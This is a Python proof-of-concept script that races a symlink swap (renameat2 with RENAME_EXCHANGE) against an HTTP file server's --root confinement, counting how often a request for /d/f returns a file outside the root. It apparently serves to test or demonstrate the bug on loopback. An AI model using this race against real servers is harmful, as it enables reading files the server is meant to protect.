#!/usr/bin/env python3
"""The --root symlink race, as an attacker with write access to the root runs
it. Loopback only.

  symlink_race.py PORT ROOT OUTSIDE ROUNDS

ROOT/d is a directory holding f ("inside"); ROOT/link is a symlink to OUTSIDE,
a directory holding f ("SECRET"). A thread swaps ROOT/d and ROOT/link with
renameat2(RENAME_EXCHANGE) as fast as it can, while ROUNDS requests for /d/f
go out over one keep-alive connection. Prints "inside N secret M other K".
"""
import ctypes
import http.client
import os
import sys
import threading

RENAME_EXCHANGE = 2
AT_FDCWD = -100


def main():
    port, root, outside, rounds = int(sys.argv[1]), sys.argv[2], sys.argv[3], int(sys.argv[4])
    os.makedirs(os.path.join(root, "d"), exist_ok=True)
    os.makedirs(outside, exist_ok=True)
    with open(os.path.join(root, "d", "f"), "w") as f:
        f.write("inside")
    with open(os.path.join(outside, "f"), "w") as f:
        f.write("SECRET")
    link = os.path.join(root, "link")
    if not os.path.lexists(link):
        os.symlink(os.path.abspath(outside), link)
    libc = ctypes.CDLL(None, use_errno=True)
    a, b = os.path.join(root, "d").encode(), link.encode()
    stop = threading.Event()

    def swap():
        while not stop.is_set():
            libc.renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE)

    t = threading.Thread(target=swap)
    t.start()
    counts = {"inside": 0, "secret": 0, "other": 0}
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
    try:
        for _ in range(rounds):
            conn.request("GET", "/d/f")
            body = conn.getresponse().read()
            key = "inside" if body == b"inside" else "secret" if b"SECRET" in body else "other"
            counts[key] += 1
    finally:
        stop.set()
        t.join()
    print(f"inside {counts['inside']} secret {counts['secret']} other {counts['other']}")


if __name__ == "__main__":
    main()
